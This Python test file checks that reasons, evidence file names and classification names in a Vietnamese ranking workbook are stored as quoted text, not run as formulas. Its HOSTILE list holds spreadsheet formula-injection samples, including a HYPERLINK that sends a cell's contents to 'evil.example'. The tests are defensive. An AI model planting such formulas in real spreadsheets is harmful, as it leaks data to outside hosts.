"""Text from people in the ranking workbook is written as text, never as a formula."""

from __future__ import annotations

import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from bot.cluster_files import load_cluster_year
from bot.config import BUNDLED_CLUSTER
from bot.domain.score_sheet import CriterionEntry, Evidence, Review, ScoreSheet, SheetEntries
from bot.domain.scoring import rank
from bot.i18n import translator
from bot.outputs.ranking_files import ranking_workbook
from bot.outputs.sheet_rows import POINTS_FORMAT
from bot.services.ranking_data import RankingData, final_scores
from tests.year_end import ranking_data

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def test_reasons_and_evidence_names_that_look_like_formulas_stay_text() -> None:
    year = load_cluster_year(BUNDLED_CLUSTER)
    table = year.scoring
    assert table is not None
    now = datetime(2022, 12, 1, tzinfo=UTC)
    criterion = table.criteria()[0]
    sheets, reviews = {}, {}
    for i, unit in enumerate(year.cluster.units):
        evidence = (Evidence("0" * 64, HOSTILE[i % len(HOSTILE)] + ".pdf"),)
        entry = CriterionEntry(1, 1.0, evidence=evidence)
        entries = SheetEntries({criterion.code: entry})
        sheets[unit.code] = ScoreSheet(unit.code, 1, 1, now, entries)
        reason = HOSTILE[i % len(HOSTILE)]
        reviews[(unit.code, criterion.code)] = Review(unit.code, criterion.code, 0.5, reason, now)
    data = RankingData(table, rank(table, final_scores(sheets, reviews)), sheets, reviews)
    book = load_workbook(io.BytesIO(ranking_workbook(year.cluster, data, translator("vi"))))
    seen = set()
    assert book["TG"]["F2"].value == "Minh chứng"  # a unit attached evidence: the column is there
    for unit in year.cluster.units:
        row = next(
            r for r in book[unit.code].iter_rows(min_row=2) if r[0].value.startswith(criterion.code)
        )
        reason, evidence = row[4], row[5]
        for cell in (reason, evidence):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.value, cell.data_type)
        assert reason.value == reviews[(unit.code, criterion.code)].reason  # kept as typed
        seen.add(reason.value)
    assert len(seen) == len(HOSTILE)
    plain = book[year.cluster.units[0].code]["A1"]
    assert plain.data_type == "s" and not plain.quotePrefix  # ordinary text is left alone


def test_the_summary_keeps_text_as_typed_and_shows_scores_in_vietnamese() -> None:
    year = load_cluster_year(BUNDLED_CLUSTER)
    assert year.scoring is not None
    names = iter(HOSTILE)
    classes = tuple(
        c.model_copy(update={"name": next(names)}) for c in year.scoring.classifications
    )
    table = year.scoring.model_copy(update={"classifications": classes})
    data = ranking_data(year.model_copy(update={"scoring": table}), {"MA": 0, "DB": 5})
    book = load_workbook(io.BytesIO(ranking_workbook(year.cluster, data, translator("vi"))))
    summary = book["Tổng hợp"]
    first, second, waiting = summary[3], summary[4], summary[5]
    assert (first[0].value, second[0].value) == (1, 2)
    for row, item in ((first, data.ranked[0]), (second, data.ranked[1])):
        code = item.score.unit_code
        assert (row[2].value, row[3].value) == (data.self_total(code), item.total)
        assert row[2].number_format == row[3].number_format == POINTS_FORMAT
        classification = row[4]
        assert classification.value == item.classification.name  # kept as typed
        assert classification.data_type == "s" and classification.quotePrefix
        assert not row[1].quotePrefix  # a unit's name is ordinary text
    assert [c.value for c in waiting[:5]] == [None, "Huyện Tuần Giáo", None, None, "chưa chấm"]
